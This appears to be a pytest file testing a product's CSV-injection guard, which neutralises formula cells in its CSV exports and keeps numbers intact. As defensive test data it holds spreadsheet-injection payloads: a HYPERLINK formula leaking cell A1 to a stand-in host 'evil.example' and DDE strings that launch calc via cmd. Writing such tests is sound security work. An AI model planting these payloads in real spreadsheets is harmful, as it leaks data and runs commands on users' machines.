"""CSV injection: every CSV the product writes neutralises cells a spreadsheet would run as formulas.

Hostile cells come from an input CSV (download), file names (folder import, classify), a model's answers (the
fake Gemini server), category lists and OCR readings; every file is read back with Python's csv module and
pandas, and the opt-out (`--raw-csv`, `csv_formula_guard`) gives the cells back untouched.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from services.core import csv_safety
from services.core.csv_safety import FORMULA_START, guard_cell, unguard_cell
from services.core.settings import load_settings
from services.core.workspace import Workspace
from services.io.clip_models import ClipSpec
from services.stages.compare.label_sets import import_categorized_csv, label_counts
from services.stages.compare.report import write_tables
from services.stages.ocr.stage import append_log
from tests.conftest import ROOT, write_csv
from tests.support.describe_data import serve_fake_gemini
from tests.support.fake_gemini import FakeGemini, make_colour_png
from tests.support.image_server import ImageServer, make_jpeg
from tests.support.tagged_images import png

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)"
HOSTILE = [HYPERLINK, DDE, AT_SUM, "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]
NUMBERS = ["-5", "-1.2e3", "+3", "-.5"]


def cli(ws_root: Path, *args: str, timeout: float = 240) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "services", "--workspace", str(ws_root), *args],
        cwd=ROOT, env=dict(os.environ, PYTHONPATH=str(ROOT)), capture_output=True, text=True, timeout=timeout,
    )  # fmt: skip


def rows_of(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell starts with a formula character unless it is a plain number."""
    for row in rows:
        for cell in row:
            if cell and cell[0] in FORMULA_START:
                assert re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell), f"formula cell left: {cell!r}"


def unguarded(rows: list[list[str]]) -> list[list[str]]:
    return [[unguard_cell(c) for c in row] for row in rows]


# --- the rule itself ----------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", HOSTILE + ["=1", "+", "-", "@", "'", "''", "'-5", "'abc", "", "plain", "a=b"])
def test_guard_is_reversible_and_neutralises_every_formula_start(cell: str):
    guarded = guard_cell(cell)
    assert unguard_cell(guarded) == cell
    if cell and cell[0] in FORMULA_START:
        assert guarded == "'" + cell
    if not cell.startswith("'") and not (cell and cell[0] in FORMULA_START):
        assert guarded == cell  # everything else is untouched


@pytest.mark.parametrize("number", NUMBERS + ["-0", "-12.", "1e5", "-3E-2"])
def test_plain_numbers_stay_numbers(number: str):
    assert guard_cell(number) == number
    assert float(number) == float(pd.read_csv(io.BytesIO(csv_safety.to_bytes(["x"], [[number]])))["x"][0])


@pytest.mark.parametrize("not_a_number", ["-1+2", "-5 ", "+3-", "-1.2e", "--5", "-inf", "-nan", "-0x10"])
def test_what_only_looks_like_a_number_is_guarded(not_a_number: str):
    assert guard_cell(not_a_number) == "'" + not_a_number


def test_separators_inside_a_cell_cannot_start_a_new_cell():
    """Every guarded cell is quoted, so a `;` list separator (or a comma) never splits out a formula."""
    data = csv_safety.to_bytes(["a"], [["x;=1+1"], ["y,=2+2"]]).decode()
    assert data.splitlines() == ['"a"', '"x;=1+1"', '"y,=2+2"']
    raw = csv_safety.to_bytes(["a"], [["x;=1+1"]], guard=False).decode()
    assert raw.splitlines() == ["a", "x;=1+1"]


# --- download: hostile input columns, the labelled CSV, jobs export ------------------------------------


def test_labelled_csv_from_a_hostile_input_and_its_opt_out(image_server: ImageServer, tmp_path: Path):
    url = image_server.add("a.jpg", make_jpeg(20, 20, seed=1))
    header = ["image_link", AT_SUM, "value"]
    cells = HOSTILE + NUMBERS
    rows = [[url if i == 0 else image_server.url(f"/img/missing{i}.jpg"), str(i), cell] for i, cell in enumerate(cells)]
    source = write_csv(tmp_path / "train.csv", header, rows)
    ws_root, out = tmp_path / "ws", tmp_path / "labelled.csv"
    run = cli(ws_root, "download", "urls", str(source), "--dataset", "d", "--out", str(out))
    assert run.returncode == 0, run.stderr[-2000:]

    written = rows_of(out)
    assert_no_formula(written)
    assert written[0][:3] == ["image_link", "'" + AT_SUM, "value"]
    assert [r[2] for r in written[1:]] == [guard_cell(c) for c in cells]
    assert [r[2] for r in unguarded(written)[1:]] == cells  # nothing lost: the guard comes off exactly
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert list(frame["value"]) == [guard_cell(c) for c in cells]
    assert frame["value"].str[0].isin(list(FORMULA_START)).sum() == len(NUMBERS)

    raw = tmp_path / "raw.csv"
    exported = cli(ws_root, "jobs", "export", "1", "--out", str(raw), "--raw-csv")
    assert exported.returncode == 0, exported.stderr
    assert [r[2] for r in rows_of(raw)[1:]] == cells and rows_of(raw)[0][1] == AT_SUM
    guarded = tmp_path / "guarded.csv"
    assert cli(ws_root, "jobs", "export", "1", "--out", str(guarded)).returncode == 0
    assert guarded.read_bytes() == out.read_bytes()

    # the job remembers --raw-csv: its own labelled CSV is raw, and so is a resumed run's
    again = cli(ws_root, "download", "urls", str(source), "--dataset", "d2", "--out", str(tmp_path / "r2.csv"),
                "--raw-csv")  # fmt: skip
    assert again.returncode == 0, again.stderr[-2000:]
    assert [r[2] for r in rows_of(tmp_path / "r2.csv")[1:]] == cells


def test_the_setting_turns_the_guard_off(image_server: ImageServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    url = image_server.add("a.jpg", make_jpeg(20, 20, seed=1))
    source = write_csv(tmp_path / "t.csv", ["image_link", "value"], [[url, HYPERLINK]])
    monkeypatch.setenv("WORKBENCH_CSV_FORMULA_GUARD", "false")
    run = cli(tmp_path / "ws", "download", "urls", str(source), "--dataset", "d", "--out", str(tmp_path / "o.csv"))
    assert run.returncode == 0, run.stderr[-2000:]
    assert rows_of(tmp_path / "o.csv")[1][1] == HYPERLINK


# --- describe exports from a model's answers, read back by compare-import and categories extract -------


@pytest.fixture
def gemini(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGemini]:
    yield from serve_fake_gemini(monkeypatch)


def test_describe_exports_of_hostile_answers_round_trip(tmp_path: Path, gemini: FakeGemini):
    red_summary = '=HYPERLINK("http://evil.example/?leak="&A1,"red")'
    gemini.summaries["red"] = red_summary
    gemini.summaries["green"] = "-2+3+cmd|' /C calc'!A0 green"
    gemini.answer_categories["red"] = [AT_SUM]
    gemini.answer_categories["green"] = [DDE, "safe"]
    folder = tmp_path / "pics"
    folder.mkdir()
    (folder / "@red.png").write_bytes(make_colour_png("red", noise_seed=1))
    (folder / "green.png").write_bytes(make_colour_png("green", noise_seed=2))
    ws_root = tmp_path / "ws"
    assert cli(ws_root, "download", "folder", str(folder), "--dataset", "pics").returncode == 0
    (tmp_path / "cats.csv").write_text(f"Category\n{AT_SUM}\n{DDE}\nsafe\n", encoding="utf-8")
    assert cli(ws_root, "categories", "import", str(tmp_path / "cats.csv"), "--name", "evil").returncode == 0
    described = cli(ws_root, "describe", "--dataset", "pics", "--yes")
    assert described.returncode == 0, described.stderr[-2000:]
    categorised = cli(ws_root, "categorize", "--dataset", "pics", "--list", "evil", "--yes")
    assert categorised.returncode == 0, categorised.stderr[-2000:]

    desc, cats = tmp_path / "descriptions.csv", tmp_path / "categorized.csv"
    assert cli(ws_root, "describe-export", "--dataset", "pics", "--out", str(desc)).returncode == 0
    run = cli(ws_root, "describe-export", "--dataset", "pics", "--format", "categories-csv", "--list", "evil",
              "--out", str(cats))  # fmt: skip
    assert run.returncode == 0, run.stderr
    for path in (desc, cats):
        assert_no_formula(rows_of(path))
        pandas_cells = pd.read_csv(path, dtype=str).to_numpy().ravel()
        assert not any(str(c)[:1] in FORMULA_START for c in pandas_cells)
    by_name = {r[0]: r for r in unguarded(rows_of(cats))[1:]}
    assert by_name["@red.png"][1:] == [red_summary, AT_SUM]
    assert by_name["green.png"][1:] == ["-2+3+cmd|' /C calc'!A0 green", f"{DDE}, safe"]
    assert rows_of(cats)[1:] != unguarded(rows_of(cats))[1:]  # the file itself holds the guarded cells

    # the product reads its own export back: labels and extracted categories are the model's, not '-prefixed
    imported = cli(ws_root, "compare-import", str(cats), "--name", "evil-set")
    assert imported.returncode == 0, imported.stderr
    ws = Workspace(ws_root, load_settings())
    try:
        counts = label_counts(ws, import_categorized_csv(ws, cats, "again"))
        assert counts == {AT_SUM: 1, DDE: 1, "safe": 1}
    finally:
        ws.close()
    extracted = cli(ws_root, "categories", "extract", str(cats), "--name", "used")
    assert extracted.returncode == 0, extracted.stderr
    shown = cli(ws_root, "categories", "show", "used")
    assert AT_SUM in shown.stdout and DDE in shown.stdout and "'" + AT_SUM not in shown.stdout

    raw = tmp_path / "raw.csv"
    assert cli(ws_root, "describe-export", "--dataset", "pics", "--format", "categories-csv", "--list", "evil",
               "--out", str(raw), "--raw-csv").returncode == 0  # fmt: skip
    assert {r[0]: r[1:] for r in rows_of(raw)[1:]} == {k: v[1:] for k, v in by_name.items()}


# --- compare tables, OCR log, preprocess manifest, classify scores --------------------------------------


def test_compare_tables_guard_hostile_categories_and_set_names(tmp_path: Path):
    a = write_csv(tmp_path / "=A.csv", ["image_name", "description", "categories"],
                  [[f"a{i}.jpg", "d", f"{HYPERLINK}, {AT_SUM}"] for i in range(5)])  # fmt: skip
    b = write_csv(tmp_path / "B.csv", ["image_name", "description", "categories"],
                  [[f"b{i}.jpg", "d", DDE] for i in range(5)])  # fmt: skip
    out = tmp_path / "cmp" / "report.html"
    run = cli(tmp_path / "ws", "compare", "--a", str(a), "--b", str(b), "--out", str(out))
    assert run.returncode == 0, run.stderr[-2000:]
    stats, special = rows_of(out.parent / "category_stats.csv"), rows_of(out.parent / "unknown_and_failed.csv")
    assert_no_formula(stats)
    assert_no_formula(special)
    assert special[0] == ["label", "'=A", "B"]
    # the comma splits the HYPERLINK cell into two labels; the first still starts with '='
    categories = {unguard_cell(r[0]) for r in stats[1:]}
    assert {'=HYPERLINK("http://evil.example/?leak="&A1', AT_SUM, DDE} <= categories
    frame = pd.read_csv(out.parent / "category_stats.csv")
    assert frame["difference"].dtype.kind == "f" and (frame["difference"] < 0).any()  # negatives stay numbers

    raw_out = tmp_path / "raw" / "report.html"
    assert cli(tmp_path / "ws", "compare", "--a", str(a), "--b", str(b), "--out", str(raw_out),
               "--raw-csv").returncode == 0  # fmt: skip
    assert rows_of(raw_out.parent / "unknown_and_failed.csv")[0] == ["label", "=A", "B"]


def test_write_tables_service_call_honours_guard(tmp_path: Path, ws: Workspace):
    a = import_categorized_csv(ws, write_csv(tmp_path / "a.csv", ["image_name", "categories"], [["x", AT_SUM]]))
    b = import_categorized_csv(ws, write_csv(tmp_path / "b.csv", ["image_name", "categories"], [["y", "ok"]]))
    from services.stages.compare.label_sets import compare_sets

    result = compare_sets(ws, a, b)
    stats, _ = write_tables(result, tmp_path / "g")
    raw, _ = write_tables(result, tmp_path / "r", guard=False)
    assert "'" + AT_SUM in {r[0] for r in rows_of(stats)} and AT_SUM in {r[0] for r in rows_of(raw)}


def test_ocr_log_guards_readings_and_keeps_counting(tmp_path: Path):
    log = tmp_path / "ocr_log.csv"
    serials = [append_log(log, text) for text in (HYPERLINK, "251234567890", DDE)]
    serials.append(append_log(log, AT_SUM, guard=False))  # a raw row appended to a guarded log
    assert serials == [1, 2, 3, 4]
    rows = rows_of(log)
    assert rows[0] == ["Serial Number", "Timestamp", "Detected Text"]
    assert [r[2] for r in rows[1:]] == ["'" + HYPERLINK, "251234567890", "'" + DDE, AT_SUM]
    assert [unguard_cell(r[2]) for r in rows[1:]] == [HYPERLINK, "251234567890", DDE, AT_SUM]
    assert list(pd.read_csv(log)["Serial Number"]) == [1, 2, 3, 4]


def test_ocr_results_download_and_ground_truth_round_trip():
    """The OCR page's results CSV (csv_safety.to_bytes) is guarded and reads back as ground truth unchanged."""
    from services.stages.ocr.accuracy import read_ground_truth

    data = csv_safety.to_bytes(["image", "code"], [["@a.png", "=1+1"], ["b.png", "-5"]])
    assert_no_formula(list(csv.reader(io.StringIO(data.decode()))))
    assert read_ground_truth(data) == {"@a.png": "=1+1", "b.png": "-5"}


def test_preprocess_manifest_goes_through_the_guard(tmp_path: Path):
    folder = tmp_path / "photos"
    folder.mkdir()
    (folder / "@SUM(1+1).png").write_bytes(png("red", 1))
    ws_root = tmp_path / "ws"
    run = cli(ws_root, "preprocess", "--folder", str(folder), "--recipe", "ocr-128", "--workers", "0")
    assert run.returncode == 0, run.stderr[-2000:]
    manifest = next((ws_root / "exports").glob("preprocess-*.csv"))
    text = manifest.read_text(encoding="utf-8")
    assert text.splitlines()[0].startswith('"image_hash","path","tag","source_path"')  # every cell quoted: guarded
    assert "@SUM(1+1).png" in text and '"\'@SUM(1+1).png"' in text  # the input's own column, neutralised too
    assert_no_formula(rows_of(manifest))
    raw = cli(ws_root, "preprocess", "--dataset", "photos", "--recipe", "ocr-line", "--workers", "0", "--raw-csv")
    assert raw.returncode == 0, raw.stderr[-2000:]
    raw_manifest = next((ws_root / "exports").glob("preprocess-photos-ocr-line-*.csv"))
    assert raw_manifest.read_text(encoding="utf-8").startswith("image_hash,path,tag,source_path")


@pytest.fixture
def tws(trained: tuple[Path, ClipSpec], tmp_path: Path) -> Iterator[Workspace]:
    shutil.copytree(trained[0], tmp_path / "ws")
    ws = Workspace(tmp_path / "ws", load_settings())
    yield ws
    ws.close()


def test_classify_scores_guard_hostile_file_names(tws: Workspace, tmp_path: Path):
    folder = tmp_path / "new"
    folder.mkdir()
    names = [AT_SUM + ".png", "-2+3+cmd|' C calc'!A0.png", "=1+1.png", "plain.png"]
    for i, name in enumerate(names):
        (folder / name).write_bytes(png(["red", "green", "blue", "yellow"][i], i))
    out, raw_out = tmp_path / "out", tmp_path / "raw"
    run = cli(tws.root, "classify", str(folder), "--out", str(out), "--trained-on", "tagged", "--dataset", "new")
    assert run.returncode == 0, run.stderr[-2000:]
    rows = rows_of(out / "scores.csv")
    assert_no_formula(rows)
    assert sorted(unguard_cell(r[0]) for r in rows[1:]) == sorted(names)
    frame = pd.read_csv(out / "scores.csv")
    assert all(frame[c].dtype.kind == "f" for c in frame.columns[2:])  # scores stay numbers
    again = cli(tws.root, "classify", "new", "--out", str(raw_out), "--trained-on", "tagged", "--raw-csv")
    assert again.returncode == 0, again.stderr[-2000:]
    assert sorted(r[0] for r in rows_of(raw_out / "scores.csv")[1:]) == sorted(names)
    assert json.loads((raw_out / "bins.json").read_text())["output_bins"] == 10
